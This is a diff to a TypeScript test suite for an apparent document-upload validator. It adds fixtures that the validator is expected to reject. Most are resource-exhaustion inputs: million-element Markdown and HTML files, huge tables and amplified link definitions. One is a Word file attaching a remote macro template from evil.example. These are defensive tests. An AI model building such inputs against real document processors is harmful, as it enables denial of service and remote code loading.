@@ -38,6 +38,14 @@ const whole = wordFile({ body: para('', run('Words.')) });
 const huge = PNG.slice();
 new DataView(huge.buffer).setUint32(16, 50_000);
 
+const TOO_MANY =
+  'more than one text can: 50,000 paragraphs, headings and points of lists, 300,000 cells of tables or 50,000 links';
+const ROW = `|${'x|'.repeat(60)}\n`;
+const manyParagraphs = (count: number) =>
+  wordFile({
+    body: Array.from({ length: count }, (_one, at) => `<w:p><w:r><w:t>${at}</w:t></w:r></w:p>`).join(''),
+  });
+
 /** A file, and what the page says beside the field of the form, or in the report before anything is made of it. */
 const CASES: ReadonlyArray<readonly [string, string, () => Uint8Array, string]> = [
   [
@@ -115,6 +123,40 @@ const CASES: ReadonlyArray<readonly [string, string, () => Uint8Array, string]> 
     'drawing in SVG.*50 million.*not in the file.*https://evil\\.example/x\\.png',
   ],
   ['words that turn', 'a.md', () => strToU8('a \u202eb\u2066 c'), 'turn the order of words'],
+  ['a million paragraphs', 'a.md', () => strToU8('a\n\n'.repeat(1_000_000)), TOO_MANY],
+  ['a million headings', 'a.md', () => strToU8('# a\n'.repeat(1_000_000)), TOO_MANY],
+  ['a million paragraphs of a page', 'a.html', () => strToU8('<p>a'.repeat(1_000_000)), TOO_MANY],
+  ['sixty thousand paragraphs of Word', 'a.docx', () => manyParagraphs(60_000), TOO_MANY],
+  [
+    'a table of 20,000 rows with 60 columns',
+    'a.md',
+    () => strToU8(`${ROW}|${'-|'.repeat(60)}\n${ROW.repeat(20_000)}`),
+    TOO_MANY,
+  ],
+  ['a million brackets', 'a.md', () => strToU8('['.repeat(1_000_000)), TOO_MANY],
+  ['a hundred thousand pictures without end', 'a.md', () => strToU8('![a]('.repeat(100_000)), TOO_MANY],
+  [
+    'a definition of a link of 100 kB that is used ten thousand times',
+    'a.md',
+    () => strToU8(`[a]: /${'b'.repeat(100_000)}\n\n${'[a] '.repeat(10_000)}`),
+    TOO_MANY,
+  ],
+  [
+    'a template that lies elsewhere',
+    'a.docx',
+    () =>
+      wordFile({
+        body: para('', run('a')),
+        relations: relation('s1', 'settings', 'settings.xml'),
+        parts: {
+          'word/settings.xml': strToU8('<w:settings/>'),
+          'word/_rels/settings.xml.rels': strToU8(
+            `<Relationships>${relation('t1', 'attachedTemplate', 'https://evil.example/a.dotm', true)}</Relationships>`,
+          ),
+        },
+      }),
+    'https://evil\\.example/a\\.dotm',
+  ],
   [
     'a page of programs',
     'a.html',
